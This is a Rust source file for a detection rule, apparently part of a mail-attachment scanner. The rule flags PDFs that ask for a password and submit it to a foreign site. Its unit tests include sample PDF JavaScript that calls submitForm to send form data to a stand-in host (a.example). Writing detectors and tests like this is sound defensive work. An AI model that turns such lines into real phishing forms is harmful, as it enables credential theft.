//! A form in a PDF that asks for a password and sends it to a site.

use super::{Check, Heuristic};
use crate::artifact::{Artifact, Fact, Tree};
use crate::detect::Strength;
use crate::detect::outside::Place;

pub(super) const RULE: Heuristic = Heuristic {
    id: "pdf-form-sends-password",
    strength: Strength::Medium,
    title_en: "A form in the PDF asks for a password and sends it to a site",
    title_ja: "PDFの入力欄に入れたパスワードが、外部へ送られます",
    attack: &["T1566.001", "T1056.003"],
    page: include_str!("../../../docs/rules/pdf-form-sends-password.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for pdf in tree.iter().filter(|artifact| artifact.kind.id == "pdf") {
        let asks =
            pdf.facts.iter().any(|fact| matches!(fact, Fact::Trick { what: "pdf-password-field", .. }));
        let sends = pdf.facts.iter().find_map(|fact| match fact {
            Fact::External { relation, target }
                if relation == "submit-form" && Place::of(target).is_foreign() =>
            {
                Some(target)
            }
            _ => None,
        });
        if let Some(target) =
            sends.cloned().filter(|_| asks).or_else(|| by_script(tree, pdf).filter(|_| asks))
        {
            hit(pdf.id, target);
        }
    }
}

/// Where a script of the PDF sends its form.
fn by_script(tree: &Tree, pdf: &Artifact) -> Option<String> {
    let scripts = tree.children(pdf.id).filter(|child| child.via == "part" && child.kind.id == "js");
    let mut texts = scripts.map(|script| String::from_utf8_lossy(&script.bytes).into_owned());
    texts.find_map(|text| {
        let at = text.to_ascii_lowercase().find("submitform(")?;
        let behind = text.get(at..)?;
        let address = behind.get(behind.find("http")?..)?.split(['"', '\'', ')', ' ']).next()?;
        Place::of(address).is_foreign().then(|| address.to_string())
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::Child;

    #[test]
    fn passwords_sent_to_strangers_hit() {
        let asks = Fact::Trick { what: "pdf-password-field", detail: "pw".into() };
        let sends = |target: &str| Fact::External { relation: "submit-form".into(), target: target.into() };
        for (facts, want) in [
            (vec![asks.clone(), sends("https://a.example/x.php")], 1),
            (vec![asks.clone(), sends("mailto:desk@a.example")], 0),
            (vec![sends("https://a.example/survey")], 0),
            (vec![asks], 0),
        ] {
            let pdf = Child::new("a.pdf", "attachment", b"%PDF-1.4".to_vec());
            let tree = Tree::new(facts.into_iter().fold(pdf, Child::with));
            let mut count = 0;
            check(&tree, &mut |_, _| count += 1);
            assert_eq!(count, want);
        }
    }

    #[test]
    fn a_script_may_send_them() {
        for (script, want) in [
            ("this.submitForm({cURL: \"https://a.example/p.php\", cSubmitAs: \"HTML\"});", 1),
            ("this.submitForm('mailto:desk@a.example');", 0),
            ("app.alert('https://a.example/');", 0),
        ] {
            let asks = Fact::Trick { what: "pdf-password-field", detail: "pw".into() };
            let mut tree = Tree::new(Child::new("a.pdf", "attachment", b"%PDF-1.4".to_vec()).with(asks));
            tree.add(
                Some(0),
                Child::new("javascript-1.js", "part", script.as_bytes().to_vec()).of_kind("js"),
            );
            let mut count = 0;
            check(&tree, &mut |_, _| count += 1);
            assert_eq!(count, want, "{script}");
        }
    }
}
